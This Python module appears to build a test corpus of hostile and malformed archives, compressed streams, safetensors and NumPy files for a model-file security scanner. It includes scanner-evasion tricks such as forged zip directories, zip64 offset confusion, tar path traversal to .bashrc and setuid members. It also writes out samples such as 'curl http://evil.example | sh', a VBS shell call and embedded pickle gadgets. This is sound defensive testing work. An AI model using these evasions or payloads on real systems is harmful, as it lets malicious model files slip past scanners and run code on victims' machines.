"""The fourth corpus: archives, packed streams, safetensors and arrays."""

# ruff: noqa: E501  tables of cases, one a line

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle  # noqa: TID251  writes hostile files, reads none
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from typing import Any

import numpy as np
import torch
from carriers import torch_zip, zipped
from fourth import OS, file

CLEAN = pickle.dumps({"epoch": 3}, 4)


@cache
def _honest() -> bytes:
    body = io.BytesIO()
    torch.save({"w": torch.arange(8.0)}, body)
    return body.getvalue()


def _renamed(data: bytes, old: bytes, new: bytes, which: str = "both") -> bytes:
    """A zip in which a name of the same length was replaced, in one or both headers."""
    assert len(old) == len(new)
    at = data.rindex(b"PK\x01\x02") if which != "both" else len(data)
    start = data.index(b"PK\x01\x02")
    del at
    local, central = data[:start], data[start:]
    local = local.replace(old, new) if which in ("both", "local") else local
    central = central.replace(old, new) if which in ("both", "central") else central
    return local + central


def _in_both(data: bytes, offset_local: int, offset_central: int, value: bytes) -> bytes:
    """Bytes of the first member's two headers changed."""
    body = bytearray(data)
    at = data.index(b"PK\x01\x02")
    body[offset_local : offset_local + len(value)] = value
    body[at + offset_central : at + offset_central + len(value)] = value
    return bytes(body)


def _end_in_the_comment() -> bytes:
    """The comment of the honest zip holds a second directory and end that find the evil one."""
    evil = zipped({"m/data.pkl": OS})
    honest = bytearray(zipped({"notes.txt": b"hello"}))
    honest[-2:] = struct.pack("<H", len(evil))
    return bytes(honest) + evil


def _count_that_lies() -> bytes:
    data = bytearray(zipped({"m/version": b"3\n", "m/data.pkl": OS}))
    end = data.rindex(b"PK\x05\x06")
    data[end + 8 : end + 12] = struct.pack("<HH", 1, 1)
    return bytes(data)


def _directory_shorter() -> bytes:
    """The size of the directory leaves the second entry out."""
    data = bytearray(zipped({"a.txt": b"hello", "m/data.pkl": OS}))
    end = data.rindex(b"PK\x05\x06")
    first = data.index(b"PK\x01\x02")
    second = data.index(b"PK\x01\x02", first + 4)
    data[end + 8 : end + 16] = struct.pack("<HHI", 1, 1, second - first)
    return bytes(data)


def _stored_or_deflated() -> bytes:
    """The directory says deflated, the file's own header says stored."""
    inner = zlib.compress(CLEAN)[2:-4]
    data = bytearray(zipped({"m.pkl": inner}))
    at = data.index(b"PK\x01\x02")
    data[at + 10 : at + 12] = struct.pack("<H", 8)
    data[at + 24 : at + 28] = struct.pack("<I", len(CLEAN))
    data[at + 16 : at + 20] = struct.pack("<I", zlib.crc32(CLEAN))
    return bytes(data)


def _offset_in_zip64() -> bytes:
    """The 32-bit offset leads to an honest member, the 64-bit one to another of the same name."""
    good, evil = zipped({"m.pkl": CLEAN}), OS + b"0" * (len(CLEAN) - len(OS))
    local_good = good[: good.index(b"PK\x01\x02")]
    other = zipped({"m.pkl": evil})
    local_evil = other[: other.index(b"PK\x01\x02")]
    central = bytearray(other[other.index(b"PK\x01\x02") : other.rindex(b"PK\x05\x06")])
    extra = struct.pack("<HHQ", 1, 8, len(local_good))
    central[42:46] = b"\xff\xff\xff\xff"
    central[30:32] = struct.pack("<H", len(extra))
    body = local_good + local_evil
    end = struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(central) + len(extra), len(body), 0
    )
    return body + bytes(central) + extra + end


def _extra_record(signature: bytes) -> bytes:
    """A record of the format that most readers skip, with a program in it."""
    data = zipped({"m/data.pkl": CLEAN, "m/version": b"3\n"})
    at, end = data.index(b"PK\x01\x02"), data.rindex(b"PK\x05\x06")
    payload = (
        signature
        + (struct.pack("<I", len(OS)) if signature == b"PK\x06\x08" else struct.pack("<H", len(OS)))
        + OS
    )
    if signature == b"PK\x06\x08":
        moved = bytearray(data[end:])
        moved[16:20] = struct.pack("<I", at + len(payload))
        return data[:at] + payload + data[at:end] + bytes(moved)
    return data[:end] + payload + data[end:]


def _descriptor() -> bytes:
    """A member written to a stream: sizes behind the data, without a signature, and a gap."""
    body = io.BytesIO()

    class Stream(io.RawIOBase):
        def writable(self) -> bool:
            return True

        def write(self, data: Any) -> int:
            return body.write(data)

    with zipfile.ZipFile(Stream(), "w") as archive:
        archive.writestr("m.pkl", OS)
    return body.getvalue()


def _spanned() -> bytes:
    return b"PK\x07\x08" + zipped({"m/data.pkl": OS})


def _masked() -> bytes:
    return _in_both(zipped({"m.pkl": CLEAN}), 6, 8, struct.pack("<H", 1 << 13))


def _case() -> bytes:
    return zipped({"m/data.pkl": CLEAN, "m/Data.pkl": OS, "m/version": b"3\n"})


def _nul() -> bytes:
    return _renamed(zipped({"m/data.pklXtxt": OS}), b"pklXtxt", b"pkl\0txt")


def _two_zips() -> bytes:
    """Both of two archives are complete, offsets of the second count from its own start."""
    return zipped({"m/data.pkl": OS, "m/version": b"3\n"}) + _honest()


def _volume_label() -> bytes:
    info = zipfile.ZipInfo("m.pkl")
    info.create_system, info.external_attr = 3, (0o060666 << 16)  # a block device
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w") as archive:
        archive.writestr(info, CLEAN)
    return body.getvalue()


def _setuid() -> bytes:
    info = zipfile.ZipInfo("run.bin")
    info.create_system, info.external_attr = 3, (0o104755 << 16)
    body = io.BytesIO()
    with zipfile.ZipFile(body, "w") as archive:
        archive.writestr(info, CLEAN)
    return body.getvalue()


ZIPS: dict[str, tuple[Callable[[], bytes], tuple[int, ...]]] = {
    "zip_whose_comment_is_a_zip": (_end_in_the_comment, (1, 4)),
    "zip_with_a_count_that_lies": (_count_that_lies, (1, 4)),
    "zip_whose_directory_is_shorter": (_directory_shorter, (1, 4)),
    "zip_stored_here_deflated_there": (_stored_or_deflated, (4, 1)),
    "zip_offset_in_zip64": (_offset_in_zip64, (1, 4)),
    "zip_with_archive_extra_data": (lambda: _extra_record(b"PK\x06\x08"), (1, 3, 4)),
    "zip_with_a_digital_signature": (lambda: _extra_record(b"PK\x05\x05"), (1, 3, 4)),
    "zip_streamed_with_a_gadget": (_descriptor, (1,)),
    "zip_that_begins_as_a_part_of_many": (_spanned, (1,)),
    "zip_with_a_masked_directory": (_masked, (4,)),
    "zip_names_in_another_case": (_case, (1,)),
    "zip_name_that_ends_at_a_zero": (_nul, (1, 4)),
    "zip_name_with_backslashes": (
        lambda: _renamed(zipped({"m/data.pkl": OS}), b"m/data.pkl", b"m\\data.pkl"), (1,)),
    "zip_before_a_zip": (_two_zips, (1, 4)),
    "zip_with_a_device": (_volume_label, (3, 4, 1)),
    "zip_with_a_program_of_root": (_setuid, (3, 4, 1)),
    "zip_of_a_wheel": (lambda: zipped({
        "evil-1.dist-info/entry_points.txt": b"[console_scripts]\npython=evil:run\n",
        "evil-1.dist-info/WHEEL": b"Wheel-Version: 1.0\n", "evil-1.dist-info/RECORD": b""}), (4, 1, 3)),
    "zip_of_a_torch_archiver": (lambda: zipped({
        "MAR-INF/MANIFEST.json": b'{"model": {"handler": "handler.py"}}', "m.pt": _honest()}), (4, 1, 3)),
    "zip_with_a_folder_that_is_a_file": (lambda: zipped({"m/data.pkl/": b"", "m/data.pkl": OS}), (1,)),
    "zip_with_names_up_and_down": (lambda: zipped({"m/x/../data.pkl": CLEAN}), (1, 3, 4)),
    "zip_with_an_empty_name": (lambda: _renamed(zipped({"x": CLEAN}), b"x", b"/"), (1, 3, 4)),
    "zip_cut_in_its_directory": (lambda: zipped({"m.pkl": OS})[:-30], (1, 4)),
    "zip_of_one_byte_members": (
        lambda: zipped({f"d{i}/" * 40 + "x": b"" for i in range(300)}), (3, 4)),
}  # fmt: skip
for _label, (_make, _codes) in ZIPS.items():
    file(_label, _make, _codes, "m.zip")


def _extra_gzip() -> bytes:
    data = gzip.compress(CLEAN, mtime=0)
    return data[:3] + b"\x04" + data[4:10] + struct.pack("<H", len(OS)) + OS + data[10:]


def _pax(**headers: str) -> bytes:
    body = io.BytesIO()
    with tarfile.open(fileobj=body, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo("notes.txt")
        info.size, info.pax_headers = 5, dict(headers)
        archive.addfile(info, io.BytesIO(b"hello"))
    return body.getvalue()


def _tar_of(kind: bytes, name: str = "m.bin", data: bytes = b"", **fields: Any) -> bytes:
    body = io.BytesIO()
    with tarfile.open(fileobj=body, mode="w", format=tarfile.GNU_FORMAT) as archive:
        info = tarfile.TarInfo(name)
        info.type, info.size = kind, len(data)
        for key, value in fields.items():
            setattr(info, key, value)
        archive.addfile(info, io.BytesIO(data))
    return body.getvalue()


STREAMS: dict[str, tuple[Callable[[], bytes], tuple[int, ...]]] = {
    "gzip_of_two_members": (lambda: gzip.compress(CLEAN) + gzip.compress(OS), (1,)),
    "gzip_whose_pickle_spans_two": (lambda: gzip.compress(OS[:9]) + gzip.compress(OS[9:]), (1,)),
    "gzip_with_an_extra_field": (_extra_gzip, (1, 3, 4)),
    "gzip_with_a_wrong_checksum": (lambda: gzip.compress(OS)[:-8] + bytes(8), (1, 4)),
    "gzip_with_zeros_and_a_second": (
        lambda: gzip.compress(CLEAN) + bytes(512) + gzip.compress(OS), (1, 4)),
    "gzip_cut_after_the_call": (lambda: gzip.compress(OS + bytes(range(256)) * 9)[:-40], (1, 4)),
    "zlib_with_a_second_stream": (lambda: zlib.compress(CLEAN) + zlib.compress(OS), (1, 4)),
    "zlib_with_a_pickle_behind": (lambda: zlib.compress(CLEAN) + OS, (1, 4)),
    "xz_of_two_streams": (lambda: lzma.compress(CLEAN) + bytes(4) + lzma.compress(OS), (1,)),
    "bz2_of_two_streams": (lambda: bz2.compress(CLEAN) + bz2.compress(OS), (1,)),
    "bz2_with_text_behind": (lambda: bz2.compress(CLEAN) + b"import os\n", (3, 4, 1)),
    "lzma_alone_with_a_gadget": (lambda: lzma.compress(OS, lzma.FORMAT_ALONE), (1,)),
    "lzma_of_two_alone": (
        lambda: lzma.compress(CLEAN, lzma.FORMAT_ALONE) + lzma.compress(OS, lzma.FORMAT_ALONE), (1, 4)),
    "tar_with_another_path": (lambda: _pax(path="../../home/x/.bashrc"), (1,)),
    "tar_with_a_link_in_its_header": (lambda: _pax(linkpath="/etc/passwd", path="a/b.sh"), (1, 3, 4)),
    "tar_with_another_size": (lambda: _pax(size="2"), (3, 4, 1)),
    "tar_behind_a_tar": (
        lambda: _tar_of(tarfile.REGTYPE, "a.pkl", CLEAN) + _tar_of(tarfile.REGTYPE, "b.pkl", OS), (1, 4)),
    "tar_with_a_device": (lambda: _tar_of(tarfile.CHRTYPE, "null", devmajor=1, devminor=3), (1, 3, 4)),
    "tar_with_a_pipe": (lambda: _tar_of(tarfile.FIFOTYPE, "model.pt"), (1, 3, 4)),
    "tar_with_a_program_of_root": (
        lambda: _tar_of(tarfile.REGTYPE, "a.pkl", CLEAN, mode=0o4755), (3, 4, 1)),
    "tar_with_a_sparse_member": (lambda: _tar_of(b"S", "a.pkl", CLEAN), (3, 4, 1)),
    "tar_with_a_member_of_an_unknown_kind": (lambda: _tar_of(b"Q", "a.pkl", OS), (1, 3, 4)),
    "tar_in_gzip_with_a_gadget": (lambda: gzip.compress(_tar_of(tarfile.REGTYPE, "a/b", OS)), (1,)),
}  # fmt: skip
for _label, (_make, _codes) in STREAMS.items():
    file(_label, _make, _codes, "m.bin")

HEADS: dict[str, bytes] = {
    "tflite": b"\x1c\0\0\0TFL3" + bytes(200),
    "saved_model.pb": b"\x08\x01\x12\x3d\x0a\x0b\x12\x09\x0a\x05serve2\0" + b"\x12\x2e\x0a\x06x/Read\x12\x08ReadFile" + bytes(32),
    "model.mlmodel": b"\x08\x04\x12\x06\x0a\x04x\x12\0\x00",
    "net.caffemodel": b"\x0a\x04evil\xa2\x06\x0c\x0a\x02fc\x12\x06Python",
    "tokenizer.model": b"\x0a\x0e\x0a\x05<unk>\x15\0\0\0\0\x18\x02" * 4,
    "model.engine": b"ptrt" + bytes(200),
    "model.rknn": b"RKNN" + bytes(200),
    "weights.msgpack": b"\x82\xa6params\x81\xa1w\xc7\x08\x01\x93\x91\x02\xa2f4\xc4",
    "model.llamafile": b"MZqFpD='\n\n" + b"#" * 400 + bytes(200),
    "data.sqlite": b"SQLite format 3\0" + bytes(200),
    "model.mat": b"MATLAB 5.0 MAT-file, Platform: GLNXA64".ljust(124) + b"\0\1IM" + bytes(64),
    "model.rds": gzip.compress(b"RDX3\nX\n" + bytes(64)),
    "model.lz": b"LZIP\x01\x0c" + bytes(60),
    "model.Z": b"\x1f\x9d\x90" + bytes(60),
    "model.cab": b"MSCF" + bytes(60),
    "model.cpio": b"070701" + b"0" * 104 + b"TRAILER!!!\0",
    "model.deb": b"!<arch>\ndebian-binary   0           0     0     100644  4         `\n2.0\n",
    "model.iso": bytes(32768) + b"\x01CD001\x01\0" + bytes(2040),
    "model.npz.enc": b"Salted__" + bytes(range(200)),
    "model.gpg": b"\x8c\x0d\x04\x09\x03\x02" + bytes(range(80)),
    "model.params": struct.pack("<QQQ", 0x112, 0, 1) + bytes(60),
    "model.tfrecord": struct.pack("<QI", 12, 0) + bytes(30),
    "model.avro": b"Obj\x01\x04\x14avro.codec\x08null" + bytes(30),
    "model.feather": b"FEA1" + bytes(60) + b"FEA1",
    "model.arrow": b"ARROW1\0\0" + bytes(60) + b"ARROW1",
    "model.nnef.flac": b"fLaC" + bytes(60),
    "model.pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.launchURL('x'))>>>>endobj\n%%EOF\n",
    "model.exe.bat": b"@echo off\r\ncurl http://evil.example | sh\r\n",
    "model.vbs": b'CreateObject("WScript.Shell").Run "calc"\r\n',
    "model.rtf": b"{\\rtf1 {\\object\\objemb}}",
    "model.docm": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
    "model.zeros": bytes(4096),
    "model.ggla": b"alggx\0\0\0" + bytes(60),
    "shelve.dat": b"'a', (0, 30)\n",
}  # fmt: skip
for _label, _data in HEADS.items():
    file(f"kind_{_label}", lambda data=_data: data, (4, 1), _label)


def _safe(header: str | bytes, data: bytes = bytes(16)) -> bytes:
    raw = header.encode() if isinstance(header, str) else header
    return struct.pack("<Q", len(raw)) + raw + data


def _entry(**more: Any) -> dict[str, Any]:
    return {"dtype": "F32", "shape": [4], "data_offsets": [0, 16], **more}


W = '{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}'
SAFE: dict[str, tuple[bytes, tuple[int, ...]]] = {
    "hole": (_safe(json.dumps({"w": _entry(data_offsets=[8, 24])}), bytes(24)), (3, 4)),
    "overlap": (_safe(json.dumps({"w": _entry(), "v": _entry()})), (3, 4)),
    "trailing_bytes": (_safe(W + "}", bytes(16) + OS), (1, 3, 4)),
    "trailing_zeros": (_safe(W + "}", bytes(64)), (3, 4)),
    "zeros_in_the_header": (_safe(W + "}" + "\0" * 40), (3, 4)),
    "program_behind_spaces": (_safe(W + "}" + " " * 500 + "#!/bin/sh\nid"), (3, 4, 1)),
    "space_before_the_header": (_safe("  " + W + "}"), (3, 4)),
    "mark_before_the_header": (_safe(b"\xef\xbb\xbf" + W.encode() + b"}"), (3, 4)),
    "offsets_of_fractions": (_safe(json.dumps({"w": _entry(data_offsets=[0.0, 16.0])})), (3, 4)),
    "offsets_of_exponents": (_safe(W.replace("16]", "1.6e1]") + "}"), (3, 4)),
    "offsets_below_zero": (_safe(json.dumps({"w": _entry(data_offsets=[-16, 0])})), (4,)),
    "offsets_as_text": (_safe(json.dumps({"w": _entry(data_offsets=["0", "16"])})), (4,)),
    "three_offsets": (_safe(json.dumps({"w": _entry(data_offsets=[0, 16, 32])})), (3, 4)),
    "more_keys": (_safe(json.dumps({"w": _entry(strides=[0])})), (3, 4)),
    "twice_in_one_entry": (_safe(W.replace('"shape"', '"shape":[2],"shape"') + "}"), (3, 4)),
    "metadata_of_numbers": (_safe(W + ',"__metadata__":{"n":1}}'), (3, 4)),
    "metadata_in_metadata": (_safe(W + ',"__metadata__":{"n":{"a":"b"}}}'), (3, 4)),
    "metadata_twice": (_safe(W + ',"__metadata__":{"a":"b"},"__metadata__":{"a":"c"}}'), (3, 4)),
    "metadata_key_twice": (_safe(W + ',"__metadata__":{"a":"b","a":"c"}}'), (3, 4)),
    "metadata_with_a_pickle": (
        _safe(W + ',"__metadata__":{"optimizer":"' + __import__("base64").b64encode(OS * 9).decode() + '"}}'), (1, 3, 4)),
    "metadata_of_a_megabyte": (
        _safe(W + ',"__metadata__":{"blob":"' + np.random.default_rng(0).bytes(500_000).hex() + '"}}'), (3, 4)),
    "not_a_number": (_safe(W + ',"__metadata__":{"a":NaN}}'), (3, 4)),
    "shape_not_a_number": (_safe(W.replace("[4]", "[NaN]") + "}"), (4,)),
    "shape_of_zero_and_more": (
        _safe(json.dumps({"w": _entry(shape=[0, 2**62, 2**62], data_offsets=[0, 0])}), b""), (3, 4)),
    "shape_below_zero": (_safe(json.dumps({"w": _entry(shape=[-2, -2])})), (4,)),
    "dtype_of_another_case": (_safe(json.dumps({"w": _entry(dtype="f32")})), (3, 4)),
    "dtype_unknown": (_safe(json.dumps({"w": _entry(dtype="F6_E2M3", shape=[16])})), (3, 4)),
    "name_that_looks_alike": (_safe(W + ',"\\u0475":' + json.dumps(_entry(shape=[0], data_offsets=[16, 16])) + "}"), (3, 4)),
    "name_with_a_lone_surrogate": (_safe(W.replace('"w"', '"\\ud800"') + "}"), (3, 4)),
    "name_with_escapes": (_safe(W.replace('"w"', '"w\\u001b[2J"') + "}"), (3, 4)),
    "name_turned_around": (_safe(W.replace('"w"', '"w\u202egnp."') + "}"), (3, 4)),
    "name_of_nothing": (_safe(W.replace('"w"', '""') + "}"), (3, 4)),
    "name_with_a_zero": (_safe(W.replace('"w"', '"w\\u0000.weight"') + "}"), (3, 4)),
    "name_in_two_forms": (
        _safe(json.dumps({"\u00e9": _entry(), "e\u0301": _entry(data_offsets=[16, 32])}), bytes(32)), (3, 4)),
    "comment_in_the_header": (_safe(W + "/* import os */}"), (3, 4)),
    "header_of_a_list": (_safe("[]", b""), (4,)),
    "header_of_nothing": (struct.pack("<Q", 0), (4,)),
    "header_longer_than_the_file": (struct.pack("<Q", 2**62) + b"{}", (4,)),
    "no_tensors_but_metadata": (_safe('{"__metadata__":{"run":"import os;os.system(1)"}}', b""), (3, 4, 1)),
    "in_latin_1": (_safe(W.replace('"w"', '"\u00e9"').encode("latin-1") + b"}"), (3, 4)),
    "truths_that_are_neither": (
        _safe(json.dumps({"w": _entry(dtype="BOOL", shape=[16])}), bytes(range(16))), (3, 4)),
}  # fmt: skip
for _label, (_data, _codes) in SAFE.items():
    file(f"safetensors_{_label}", lambda data=_data: data, _codes, "m.safetensors")


def _npy(header: str, data: bytes = bytes(16), pad: int = 64) -> bytes:
    raw = header.encode("latin-1")
    raw += b" " * (-(len(raw) + 11) % pad) + b"\n"
    return b"\x93NUMPY\x01\0" + struct.pack("<H", len(raw)) + raw + data


H = "{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }"
NPY: dict[str, tuple[bytes, tuple[int, ...]]] = {
    "comment": (_npy(H + " # " + "import os; os.system('id') " * 20), (3, 4, 1)),
    "trailing_bytes": (_npy(H, bytes(16) + OS), (1, 3, 4)),
    "second_array": (_npy(H) + _npy(H), (3, 4)),
    "key_twice": (_npy(H.replace("'shape'", "'shape': (2,), 'shape'")), (3, 4)),
    "order_of_a_number": (_npy(H.replace("False", "0")), (3, 4)),
    "shape_of_truths": (_npy(H.replace("(4,)", "(True, 4)")), (3, 4)),
    "shape_below_zero": (_npy(H.replace("(4,)", "(-2, -2)")), (4,)),
    "shape_of_a_list": (_npy(H.replace("(4,)", "[4]")), (3, 4)),
    "shape_of_absurd_size": (_npy(H.replace("(4,)", f"({2**40}, {2**40})")), (4,)),
    "names_joined": (_npy(H.replace("'<f4'", "'<' 'f4'")), (3, 4)),
    "records_that_overlap": (
        _npy("{'descr': {'names': ['a', 'b'], 'formats': ['<f4', 'O'], 'offsets': [0, 0]}, "
             "'fortran_order': False, 'shape': (2,), }"), (3, 4, 1)),
    "objects_in_a_record_in_a_record": (
        _npy("{'descr': [('a', [('b', '|O')])], 'fortran_order': False, 'shape': (1,), }", OS), (1, 4)),
    "header_of_a_call": (_npy(H.replace("(4,)", "tuple([4])")), (3, 4)),
    "dates_that_are_none": (_npy(H.replace("<f4", "<M8[1000000000000Y]")), (3, 4)),
    "tabs_and_line_breaks": (_npy(H.replace(", ", ",\n\t# x\n")), (3, 4)),
    "version_of_0": (_npy(H).replace(b"NUMPY\x01", b"NUMPY\x00"), (4,)),
}  # fmt: skip
for _label, (_data, _codes) in NPY.items():
    file(f"npy_{_label}", lambda data=_data: data, _codes, "m.npy")
file("npz_of_two_names_of_one", lambda: zipped({"w.npy": _npy(H), "w": _npy(H)}), (3, 4), "m.npz")
file("npz_with_a_pickle", lambda: zipped({"w.npy": OS}), (1,), "m.npz")
file(
    "npz_with_a_note", lambda: zipped({"w.npy": _npy(H), "run.py": b"import os\n"}), (4, 1), "m.npz"
)
file("torch_file_of_two_kinds", lambda: torch_zip(CLEAN, **{"w.npy": _npy(H)}), (3, 4), "m.pt")
